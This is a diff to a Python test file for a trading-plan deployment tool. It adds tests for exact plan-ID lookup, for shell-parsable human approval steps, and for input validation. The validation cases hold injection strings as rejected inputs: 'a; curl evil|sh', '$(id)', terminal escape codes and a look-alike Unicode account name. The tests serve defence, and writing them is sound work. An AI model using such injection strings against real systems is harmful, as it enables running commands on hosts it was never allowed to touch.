@@ -96,6 +96,28 @@ def test_a_plan_is_found_by_any_of_its_ids(place: tuple[Lab, Filled]) -> None:
         assert found["state"] == "pending"
 
 
+def test_a_plan_is_not_found_by_the_start_or_more_of_its_id(place: tuple[Lab, Filled]) -> None:
+    lab, home = place
+    paper = fields(lab, "deploy", id=home.first["experiment_id"], limits=LIMITS)
+    for asked in (live(place), paper):
+        whole, told = asked["plan_hash"], asked["plan_id"]
+        assert fields(lab, "deploy", plan_id=whole)["plan_id"] == told
+        for name in (told[:-1], told[:6], whole[:20], whole[:-1], f"plan_{whole[:21]}"):
+            answer = ask(lab, "deploy", plan_id=name)
+            assert (name, answer.fields["code"]) == (name, "AF404")
+
+
+def test_the_steps_for_a_human_name_the_key_and_are_words_of_a_shell(
+    place: tuple[Lab, Filled],
+) -> None:
+    import shlex
+
+    steps = live(place, account="desk-1")["human_steps"]
+    signing = next(step for step in steps if " approve " in step)
+    assert "--key" in shlex.split(signing)
+    assert shlex.split(steps[-1]) == ["alphaforge", "gateway", "--account", "desk-1"]
+
+
 @pytest.mark.parametrize("name", ["", "p", "plan_", "plan_0000", "%", "apr_x", "dep_x"])
 def test_no_part_of_an_id_finds_a_plan(place: tuple[Lab, Filled], name: str) -> None:
     lab, _ = place
@@ -144,6 +166,13 @@ def test_A6_nobody_stops_or_withdraws_in_the_name_of_another(place: tuple[Lab, F
         ({"instruments": ["DOGEUSDT"]}, "`DOGEUSDT` is not in the data"),
         ({"days": 31}, "argument `days`"),
         ({"venue": "binance"}, "not `binance`"),
+        ({"account": "a; curl evil|sh"}, "is not an account name"),
+        ({"account": "$(id)"}, "is not an account name"),
+        ({"account": "main\n"}, "is not an account name"),
+        ({"account": "\x1b[2Jmain"}, "is not an account name"),
+        ({"account": "\u0430ccount"}, "is not an account name"),
+        ({"venue": "sim\x1b[8m"}, "is not the name of a venue"),
+        ({"venue": "sim sim"}, "is not the name of a venue"),
         ({"stage": "production"}, "argument `stage`"),
     ],
 )
